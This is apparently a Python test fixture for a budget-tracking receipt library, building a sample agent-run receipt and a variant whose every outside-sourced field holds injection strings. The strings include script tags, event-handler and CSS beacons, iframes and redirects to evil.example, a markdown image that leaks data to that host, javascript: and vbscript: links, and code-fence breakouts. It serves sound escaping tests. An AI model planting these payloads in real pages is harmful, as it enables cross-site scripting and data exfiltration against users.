"""A receipt with a bit of everything, and text that no page should obey."""

from dataclasses import replace
from decimal import Decimal

from thrifty.budget import Budget, Spend
from thrifty.budget.decision import Decision
from thrifty.receipt.receipt_data import Receipt, ReceiptLine

HOSTILE = (
    "<script>document.title='PWNED'</script><img src=http://evil.example/i onerror=\"document"
    ".title='PWNED'\">\"'><svg onload=document.title='PWNED'></style></title><style>*{background:"
    "url(http://evil.example/c)}</style><iframe src=http://evil.example/f></iframe>"
    "<meta http-equiv=refresh content='0;url=http://evil.example/r'>&lt;{{ 7 * 7 }}{% x %}"
    "\u202e\x1b\0"
)
HOSTILE_DRAFT = (
    f"{HOSTILE}\n\n![secret](http://evil.example/p?data) [a](javascript:document.title='PWNED')\n"
    "[b](data:text/html,<script>1</script>) [c][d] <javascript:alert(1)> [e](//evil.example/e)\n"
    "[![f](http://evil.example/g)](https://safe.example/) [g](https://bank.example@evil.example/)\n\n"
    "[d]: vbscript:x\n\n```html\n</code></pre><script>document.title='PWNED'</script>\n```\n"
)

RECEIPT = Receipt(
    run_id="run-1",
    task="Draft a proposal",
    status="done",
    halt_reason="",
    budget=Budget(6000, Decimal("0.02"), 12_000),
    spent=Spend(4630, 15_123_456, 8650, 4),
    planned=Spend(4720, 14_450_000, 9650, 4),
    bound_by=("cost",),
    bound_by_accounts=(),
    lines=(
        ReceiptLine(
            "Proposals", "", "overhead", None, Spend(590, 1_200_000, 900, 1), 0.0, "", 0, 900
        ),
        ReceiptLine(
            "Outline plan (LLM)", "llm", "done", Spend(1600, 5_900_000, 2200, 1),
            Spend(1440, 5_123_456, 3180, 1), 10.0, "", 910, 4090,
        ),
        ReceiptLine(
            "Risk register (LLM)", "llm", "failed", Spend(1700, 6_550_000, 2400, 1),
            Spend(1900, 6_000_000, 1200, 1), 0.0, "the server failed (500)", 4100, 5300,
        ),
        ReceiptLine(
            "Timeline (LLM)", "llm", "cut", Spend(1500, 4_000_000, 2600, 1),
            Spend(700, 2_800_000, 3100, 1), 8.0, "cut short", 5320, 8420,
        ),
        ReceiptLine("Summary (LLM)", "llm", "skipped", None, Spend(), 0.0, "210 tokens short"),
    ),
    decisions=(
        Decision("plan", "Outline plan (LLM), Risk register (LLM): worth 19.0", 903),
        Decision("replan", "'Risk register (LLM)' did not work out", 5302),
        Decision("downgrade", "Summary moved: 400 tokens short", 5310),
        Decision("skip", "Summary was skipped: 210 tokens short", 8500),
    ),
    best=20.0,
)  # fmt: skip


def hostile() -> Receipt:
    """The receipt with hostile text in every place that comes from outside."""
    return replace(
        RECEIPT,
        run_id=HOSTILE,
        task=HOSTILE,
        status="halted",
        halt_reason=HOSTILE,
        bound_by=(HOSTILE,),
        bound_by_accounts=(HOSTILE,),
        lines=tuple(
            replace(x, label=HOSTILE, executor=HOSTILE, reason=HOSTILE) for x in RECEIPT.lines
        ),
        decisions=tuple(replace(decision, reason=HOSTILE) for decision in RECEIPT.decisions),
    )
